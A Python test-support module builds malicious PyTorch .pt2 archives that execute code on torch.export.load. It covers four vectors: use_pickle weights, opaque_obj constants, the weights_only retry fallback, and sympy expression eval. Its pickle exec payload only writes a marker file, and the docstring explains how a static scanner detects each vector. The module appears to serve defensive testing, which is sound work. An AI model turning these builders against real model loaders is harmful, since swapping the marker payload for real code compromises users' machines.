"""Craft malicious ``.pt2`` archives that execute code under plain ``torch.export.load``.

Test-support only. Every builder starts from a genuine archive produced by
``torch.export.save`` for a tiny ``nn.Sequential(Linear(4, 3), ReLU())`` exported in eval mode,
then edits zip members / JSON configs so that exactly one code-execution vector of
``torch.export.load`` (torch 2.13) fires. The payload creates the file ``marker``.

Archive layout reminder (torch 2.13). Every zip member name is ``<root>/<member>``: the first
path component is an arbitrary archive-root name (``archive`` when saved to a buffer, the file
stem when saved to a path) and the PT2 reader strips it, so a static screen must strip it too
before matching. Genuine members for a model named ``model``::

    archive_format                                 "pt2"
    archive_version                                "0"
    byteorder, .data/version, .data/serialization_id
    models/model.json                              serialized ExportedProgram (JSON)
    data/weights/model_weights_config.json         {"config": {fqn: PayloadMeta}}
    data/weights/weight_<i>                        raw tensor bytes (not pickle)
    data/constants/model_constants_config.json     {"config": {fqn: PayloadMeta}}
    data/sample_inputs/model.pt                    torch.save zip (pickle)

``PayloadMeta`` is ``{"path_name": str, "is_param": bool, "use_pickle": bool,
"tensor_meta": {...} | null}``. ``load_pt2`` iterates over *every* ``models/<name>.json`` member,
not only ``model``, so a screen must check the configs of every model name it finds.

Vectors and where they live (all detectable by reading zip + JSON only, never unpickling):

``use_pickle``
    ``data/weights/<name>_weights_config.json``: an entry of ``config`` with
    ``"use_pickle": true``. ``_load_state_dict`` then calls
    ``torch.load(data/weights/<path_name>, weights_only=False)``. The same flag on an entry of
    ``data/constants/<name>_constants_config.json`` whose ``path_name`` starts with ``tensor_``
    has the same effect in ``_load_constants``. Genuine archives only set it for
    tensor-subclass payloads; a screen should reject any ``"use_pickle": true``.

``opaque_obj``
    ``data/constants/<name>_constants_config.json``: an entry whose ``path_name`` starts with
    ``opaque_obj_`` (the ``use_pickle`` flag is irrelevant here). ``_load_constants`` calls
    ``pickle.loads(data/constants/<path_name>)``, i.e. fully unrestricted pickle. A
    ``path_name`` starting with ``custom_obj_`` goes through ``torch._C._pickle_load_obj``
    (TorchScript unpickler) and should be rejected as well.

``weights_only_retry``
    ``data/sample_inputs/<name>.pt`` (present in every genuine archive) holds a pickle whose
    globals are outside the ``weights_only`` allowlist. ``deserialize_torch_artifact`` in
    ``torch/_export/serde/serialize.py`` first tries ``torch.load(weights_only=True)``, and on
    *any* exception retries with ``weights_only=False``. The same helper is applied to the legacy
    members ``data/weights/<name>.pt`` and ``data/constants/<name>.pt``, which are returned as
    raw bytes when present. A screen must statically disassemble those pickles
    (``pickletools.genops`` on ``<root>/data.pkl`` inside the nested torch.save zip, or on the
    raw stream) and reject any ``GLOBAL``/``STACK_GLOBAL``/``INST``/``OBJ``/``REDUCE`` whose
    callable is not in the tensor-rebuild allowlist (``torch._utils._rebuild_tensor_v2``,
    ``torch.*Storage``, ``collections.OrderedDict``, ...); here the stream references
    ``builtins.exec`` (written as ``__builtin__ exec`` at protocol 2).

``sympy_eval``
    ``models/<name>.json``: any ``{"as_expr": {"expr_str": <str>, ...}}`` (a ``SymExpr``) anywhere
    in the document, here ``graph_module.graph.tensor_values.input.sizes[0]``.
    ``GraphModuleDeserializer._parse_sym_expr`` passes ``expr_str`` to ``sympy.sympify``, which
    ``eval``\\s it with Python builtins in scope. A screen should walk the JSON recursively and
    require every ``expr_str`` to match a strict grammar (symbol names such as ``s0``/``u3``,
    integer/float literals, ``+ - * / // % ** ( ) ,`` comparison operators and the allowlisted
    ``torch.utils._sympy.functions`` names such as ``FloorDiv``/``Mod``/``Max``/``Min``);
    quotes, ``.``, ``_`` prefixes/dunders, ``lambda``, ``[``/``]`` or unknown call names are
    malicious.
"""

from __future__ import annotations

import functools
import io
import json
import pickle
import zipfile
from pathlib import Path
from typing import Any

import torch

Markers = Path | tuple[Path, ...]
"""One marker file, or several that the payload tries in turn."""

VECTORS: tuple[str, ...] = ("use_pickle", "opaque_obj", "weights_only_retry", "sympy_eval")

MODEL_NAME = "model"
"""Name of the exported program inside the archive (``torch.export.save`` default)."""

_FIXED_DATE_TIME = (1980, 1, 1, 0, 0, 0)
_PICKLE_PROTOCOL = 2


class _ExecPayload:
    """Object whose unpickling runs ``exec(source)``.

    Attributes:
        source: Python source executed at unpickling time.
    """

    def __init__(self, source: str) -> None:
        """Store the source to execute.

        Args:
            source: Python source executed at unpickling time.
        """
        self.source = source

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        """Reduce to a call of the ``exec`` builtin.

        Returns:
            ``(exec, (source,))`` so that any unpickler calls ``exec(source)``.
        """
        return (exec, (self.source,))


def _payload_source(marker: Markers) -> str:
    """Return a one-line Python expression that creates ``marker`` (each of several markers).

    Args:
        marker: Absolute path of the file the payload creates, or a tuple of paths; the
            payload tries each and ignores those it cannot write.

    Returns:
        Source text such as ``open('/abs/marker', 'w').write('pwned')``.
    """
    if isinstance(marker, Path):
        return f"open({str(marker)!r}, 'w').write('pwned')"
    paths = [str(m) for m in marker]
    loop = f"for m in {paths!r}:\n try: open(m, 'w').write('pwned')\n except OSError: pass"
    return f"exec({loop!r})"


def _raw_pickle_payload(marker: Markers) -> bytes:
    """Return a plain pickle stream that creates ``marker`` when unpickled.

    Args:
        marker: Absolute path of the file the payload creates.

    Returns:
        Pickle bytes (protocol 2) that call ``exec`` on load.
    """
    return pickle.dumps(_ExecPayload(_payload_source(marker)), protocol=_PICKLE_PROTOCOL)


def _torch_save_payload(marker: Markers) -> bytes:
    """Return a ``torch.save`` zip whose ``data.pkl`` creates ``marker`` when unpickled.

    Args:
        marker: Absolute path of the file the payload creates.

    Returns:
        Bytes in the same container format as genuine ``.pt`` members.
    """
    buffer = io.BytesIO()
    torch.save(_ExecPayload(_payload_source(marker)), buffer, pickle_protocol=_PICKLE_PROTOCOL)
    return buffer.getvalue()


@functools.lru_cache(maxsize=1)
def _genuine_members() -> tuple[tuple[str, bytes], ...]:
    """Export and save a tiny genuine model, returning its zip members in order.

    Weights are set explicitly (no dependence on the global RNG, whose state is preserved), so
    the result is deterministic for a given torch installation.

    Returns:
        ``(name, data)`` pairs for every member of the genuine archive, names including the
        archive-root prefix.
    """
    with torch.random.fork_rng(devices=[]):
        model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()).eval()
    linear = model[0]
    assert isinstance(linear, torch.nn.Linear)
    with torch.no_grad():
        linear.weight.copy_(torch.linspace(-1.0, 1.0, 12).reshape(3, 4))
        linear.bias.copy_(torch.tensor([0.1, -0.2, 0.3]))
    example = (torch.arange(8, dtype=torch.float32).reshape(2, 4),)
    exported = torch.export.export(model, example)
    buffer = io.BytesIO()
    torch.export.save(exported, buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        return tuple((info.filename, archive.read(info)) for info in archive.infolist())


def _split_root(name: str) -> tuple[str, str]:
    """Split a zip member name into archive root and logical member path.

    Args:
        name: Zip member name such as ``archive/models/model.json``.

    Returns:
        ``(root, member)``, e.g. ``("archive", "models/model.json")``.
    """
    root, _, member = name.partition("/")
    return root, member


def _write_archive(path: Path, root: str, members: dict[str, bytes]) -> None:
    """Write members to a deterministic, uncompressed zip under ``root/``.

    Args:
        path: Destination file.
        root: Archive-root directory name prefixed to every member.
        members: Logical member path to content, written in insertion order.
    """
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        for member, data in members.items():
            info = zipfile.ZipInfo(f"{root}/{member}", date_time=_FIXED_DATE_TIME)
            info.compress_type = zipfile.ZIP_STORED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)


def _dump_json(obj: Any) -> bytes:
    """Serialize JSON the way ``torch.export.save`` does (compact enough, UTF-8).

    Args:
        obj: JSON-compatible object.

    Returns:
        UTF-8 encoded JSON.
    """
    return json.dumps(obj).encode("utf-8")


def _inject_use_pickle(members: dict[str, bytes], marker: Markers) -> None:
    """Flip ``use_pickle`` on the first weight and replace its payload with a pickle.

    Args:
        members: Archive members (mutated in place).
        marker: File the payload creates.
    """
    config_name = f"data/weights/{MODEL_NAME}_weights_config.json"
    config = json.loads(members[config_name])
    fqn = next(iter(config["config"]))
    entry = config["config"][fqn]
    entry["use_pickle"] = True
    members[config_name] = _dump_json(config)
    members[f"data/weights/{entry['path_name']}"] = _torch_save_payload(marker)


def _inject_opaque_obj(members: dict[str, bytes], marker: Markers) -> None:
    """Add an ``opaque_obj_0`` constant backed by a raw pickle payload.

    Args:
        members: Archive members (mutated in place).
        marker: File the payload creates.
    """
    config_name = f"data/constants/{MODEL_NAME}_constants_config.json"
    config = json.loads(members[config_name])
    config["config"]["opaque_config"] = {
        "path_name": "opaque_obj_0",
        "is_param": False,
        "use_pickle": True,
        "tensor_meta": None,
    }
    members[config_name] = _dump_json(config)
    members["data/constants/opaque_obj_0"] = _raw_pickle_payload(marker)


def _inject_weights_only_retry(members: dict[str, bytes], marker: Markers) -> None:
    """Replace the sample inputs with a pickle the ``weights_only`` unpickler rejects.

    Args:
        members: Archive members (mutated in place).
        marker: File the payload creates.
    """
    members[f"data/sample_inputs/{MODEL_NAME}.pt"] = _torch_save_payload(marker)


def _inject_sympy_eval(members: dict[str, bytes], marker: Markers) -> None:
    """Turn the first size of the graph input into a ``SymExpr`` whose string is code.

    Args:
        members: Archive members (mutated in place).
        marker: File the payload creates.
    """
    model_name = f"models/{MODEL_NAME}.json"
    program = json.loads(members[model_name])
    graph = program["graph_module"]["graph"]
    input_name = graph["inputs"][-1]["as_tensor"]["name"]
    sizes = graph["tensor_values"][input_name]["sizes"]
    sizes[0] = {"as_expr": {"expr_str": _payload_source(marker), "hint": {"as_int": 2}}}
    members[model_name] = _dump_json(program)


_INJECTORS = {
    "use_pickle": _inject_use_pickle,
    "opaque_obj": _inject_opaque_obj,
    "weights_only_retry": _inject_weights_only_retry,
    "sympy_eval": _inject_sympy_eval,
}


def build_malicious_pt2(vector: str, path: Path, marker: Markers) -> Path:
    """Write a ``.pt2`` archive whose loading with ``torch.export.load`` creates ``marker``.

    See the module docstring for the archive member / field that carries each vector.

    Args:
        vector: One of :data:`VECTORS`.
        path: Destination ``.pt2`` file (overwritten).
        marker: Absolute path of the file the payload creates (content ``pwned``).

    Returns:
        ``path``.

    Raises:
        ValueError: If ``vector`` is unknown or ``marker`` is not absolute.
    """
    if vector not in _INJECTORS:
        raise ValueError(f"unknown vector {vector!r}; expected one of {VECTORS}")
    if not all(m.is_absolute() for m in ((marker,) if isinstance(marker, Path) else marker)):
        raise ValueError(f"marker must be an absolute path, got {marker}")
    genuine = _genuine_members()
    root = _split_root(genuine[0][0])[0]
    members = {_split_root(name)[1]: data for name, data in genuine}
    _INJECTORS[vector](members, marker)
    _write_archive(path, root, members)
    return path
